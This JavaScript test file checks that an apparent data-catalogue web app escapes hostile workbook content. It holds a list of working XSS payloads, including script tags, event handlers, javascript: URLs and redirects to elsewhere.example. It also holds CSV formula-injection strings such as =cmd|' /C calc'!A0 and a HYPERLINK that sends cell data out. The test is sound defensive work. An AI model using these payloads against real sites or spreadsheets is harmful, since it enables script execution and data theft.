// A data model whose every text tries to become a script, a formula or another page, published and read page by page: what
// a workbook says is shown, never run.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { open, program, serve } from './support.mjs'
import { workbook } from './workbook.mjs'

/** Pages that are opened at most; every kind is among the first. */
const MOST_PAGES = 160
const RUN = 'window.ran=1,alert(1)'

/** Texts that run, load, break out or lead astray where a page forgets to escape them. */
const TEXTS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src="http://elsewhere.example/x.png" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style></script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">press</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `" autofocus onfocus="${RUN}" x="`,
  `' style='position:fixed;background:url(http://elsewhere.example/)' x='`,
  `<base href="http://elsewhere.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://elsewhere.example/">`,
  `<link rel="stylesheet" href="http://elsewhere.example/x.css">`,
  `<form action="http://elsewhere.example/"><button>send</button></form>`,
  `<math><mi xlink:href="javascript:${RUN}">m</mi></math>`,
  `<details open ontoggle=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>\u202c`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
  `=HYPERLINK("http://elsewhere.example/?"&A1,"press")`,
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`
]

let next = 0
const text = () => TEXTS[next++ % TEXTS.length]
const times = (many, make) => Array.from({ length: many }, (_, at) => make(at))

const model = (slug, schemes) => [
  ['Data model', [['Property', 'Value'], ['Slug', slug], ['Title', text()], ['Description', text()], ['Version label', text()], ['Steward', text()], ['Status note', text()], ['Source', text()]]],
  ['Datasets', [
    ['Dataset', 'Title', 'Description', 'Custodian', 'Contact', 'Approvals', 'Visibility', 'Curated', 'Coverage start', 'Coverage end', 'Population', 'Geography', 'Consent basis', 'Update frequency', 'Time lag', 'Lead time', 'Keywords', 'Provenance', 'Source', text()],
    ...times(3, (at) => [`${slug}-${at}`, text(), text(), text(), text(), 'XSS', 'public', 'yes', `201${at}-01-01`, at ? '2020-01-01' : '', '9000', text(), text(), text(), text(), text(), text(), 'inferred', text(), text()])
  ]],
  ['Tables', [
    ['Dataset', 'Table', 'Title', 'Description', 'Grain', 'Coverage start', 'Source'],
    ...times(6, (at) => [`${slug}-${at % 3}`, `T${at} ${text()}`, text(), text(), text(), '2016-01-01', text()])
  ]],
  ['Fields', [
    ['Dataset', 'Table', 'Field', 'Title', 'Description', 'Data type', 'Unit', 'Values', 'Sensitivity', 'Key', 'Identifier scheme', 'Completeness', 'Provenance', 'Source', text()]
  ]],
  ...(schemes
    ? [
        ['Identifier schemes', [['Scheme', 'Title', 'Description', 'Entity', 'Held by', 'Source'], ['evil-one', text(), text(), 'person', text(), text()], ['evil-two', text(), text(), 'person', text(), text()]]],
        ['Crosswalks', [['From scheme', 'To scheme', 'Crosswalk', 'Title', 'Cardinality', 'Match rate', 'Approvals', 'Lead time', 'Restriction', 'Status', 'Source'], ['evil-one', 'evil-two', 'evil-walk', text(), '1:1', '0.7', 'XSS', text(), text(), 'available', text()]]],
        ['Approvals', [['Approval', 'Title', 'Body', 'Standard', 'Contact', 'Calendar', 'Deadline', 'Description', 'Source'], ['XSS', text(), text(), 'yes', text(), 'monthly last Friday', '16 days before 17:00', text(), text()], ['XSS2', text(), text(), 'no', text(), '', '', text(), text()]]],
        ['Rules', [['Rule', 'When', 'Approvals', 'Because', 'Source'], ['evil-rule', 'commercial funding', 'XSS2', text(), text()]]],
        ['Synonyms', [['Term', 'Synonyms', 'Source'], [text(), 'pressure', text()]]]
      ]
    : [])
]

function hostile () {
  const sheets = model('evil', true)
  const tables = sheets[2][1].slice(1)
  for (const [at, table] of tables.entries()) {
    sheets[3][1].push([table[0], table[1], 'Key', text(), text(), 'string', '', '', 'identifier', 'primary', at % 2 ? 'evil-two' : 'evil-one', '', 'inferred', text(), text()])
    for (let nth = 0; nth < 8; nth++) {
      sheets[3][1].push([table[0], table[1], `F${nth} ${text()}`, text(), text(), nth % 2 ? text() : 'code', text(), `1=${text().replaceAll(';', '\\;')}; 2=${text().replaceAll(';', '\\;')}`, 'free text', '', '', '0.75', 'illustrative', text(), text()])
    }
  }
  return workbook(sheets)
}

/** The cells of a CSV. */
function cells (csv) {
  const found = []
  for (const [, quoted, plain] of csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)) {
    found.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
  }
  return found
}

describe('a data model whose every text is hostile', () => {
  test('every page of it shows what it says and runs nothing', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'linkwright-hostile-'))
    const file = join(folder, 'evil.xlsx')
    writeFileSync(file, hostile())
    const database = `sqlite://${join(folder, 'evil.db')}`
    const imported = spawnSync(program, ['import', file, '--publish', '--database', database], { encoding: 'utf8' })
    assert.equal(imported.status, 0, imported.stdout + imported.stderr)
    const server = await serve({ database })
    try {
      const { page, context, wrong, close } = await open('/', { at: server.address })
      await page.addInitScript(() => {
        window.broken = []
        document.addEventListener('securitypolicyviolation', (event) => window.broken.push(`${event.violatedDirective}: ${event.blockedURI}`))
      })
      const q = encodeURIComponent
      const waiting = [
        '/', '/datasets', '/search', '/map', '/plan?item=evil-0&item=evil-1', '/plan?item=evil-0&item=evil-1&project=commercial+funding', '/plan?item=evil-0&item=evil-1&avoid=XSS', '/map?focus=evil-0', '/models/evil', '/approvals', '/crosswalks/evil-walk', '/keys', '/datasets/evil-0/compare',
        ...TEXTS.slice(0, 8).flatMap((bad) => [`/search?q=${q(bad)}`, `/plan?item=${q(bad)}&held=${q(bad)}`, `/map?focus=${q(bad)}&key=${q(bad)}`, `/datasets?q=${q(bad)}`, `/api/query?query=${q(bad)}&variables=${q(bad)}`, `/graphiql?query=${q(bad)}`, `/${q(bad)}`, `/datasets/${q(bad)}`, `/help/pathway?purpose=${q(bad)}`, `/api/schema?q=${q(bad)}`, `/glossary?q=${q(bad)}`])
      ]
      const seen = new Set(waiting)
      const twins = new Set()
      let pages = 0
      let shown = 0
      while (waiting.length > 0 && pages < MOST_PAGES) {
        const path = waiting.shift()
        await page.goto(server.address + path)
        pages++
        const found = await page.evaluate(() => ({
          ran: window.ran, broken: window.broken, base: document.baseURI, at: location.href, text: document.body.innerText,
          links: [...document.querySelectorAll('a[href]')].map((one) => one.getAttribute('href')),
          handlers: [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter((one) => /^on/i.test(one.name)).map((one) => one.name),
          scripts: [...document.scripts].filter((one) => !one.src).length
        }))
        assert.equal(found.ran, undefined, `${path}: something ran`)
        assert.deepEqual(found.broken, [], path)
        assert.deepEqual(found.handlers, [], path)
        assert.equal(found.scripts, 1, `${path}: one script of our own`)
        assert.ok(found.at.startsWith(server.address) && found.base.startsWith(server.address), path)
        assert.deepEqual(found.links.filter((href) => !/^(\/|#|https:\/\/|mailto:[a-z0-9.@-]+(\?|$))/i.test(href)), [], path)
        assert.deepEqual(found.links.filter((href) => !href.startsWith('/') && /elsewhere/.test(href.split('?')[0])), [], path)
        if (found.text.includes('alert(1)')) shown++
        assert.deepEqual(wrong, [], path)
        for (const href of found.links) {
          const to = href.split('#')[0]
          if (!to.startsWith('/') || seen.has(to)) continue
          seen.add(to)
          if (/\.(csv|json|svg|sql|ics|atom)(\?|$)/.test(to)) twins.add(to)
          else if (!/\.(xlsx|graphql)(\?|$)/.test(to)) waiting.push(to)
        }
      }
      assert.ok(pages >= 120, `${pages} pages`)
      assert.ok(shown > 60, `${shown} pages show what the workbook says`)
      const feed = await (await context.request.get(server.address + '/changes.atom')).text()
      await page.goto(server.address + '/')
      const told = await page.evaluate((text) => {
        const read = new DOMParser().parseFromString(text, 'application/xml')
        return { wrong: read.querySelector('parsererror')?.textContent, entries: read.querySelectorAll('entry').length, within: [...read.querySelectorAll('title, summary')].filter((one) => one.children.length > 0).length }
      }, feed)
      assert.deepEqual(told, { wrong: undefined, entries: told.entries, within: 0 }, 'the feed is XML, and no text of it is more than text')
      assert.ok(told.entries > 0)
      let formulas = 0
      for (const path of [...twins].slice(0, 60)) {
        const reply = await context.request.get(server.address + path)
        assert.equal(reply.status(), 200, path)
        const body = await reply.text()
        if (path.includes('.csv')) {
          for (const cell of cells(body)) {
            assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${path}: a cell that a spreadsheet would run`)
            if (/^'[=+\-@]/.test(cell)) formulas++
          }
        }
        if (path.includes('.svg')) {
          assert.doesNotMatch(body, /<script|<image|\son[a-z]+=(?![^<]*<\/)/i, path)
        }
      }
      assert.ok(formulas > 0, 'some cells would have been formulas')
      assert.deepEqual(wrong, [])
      await close()
    } finally {
      await server.stop()
    }
  })
})
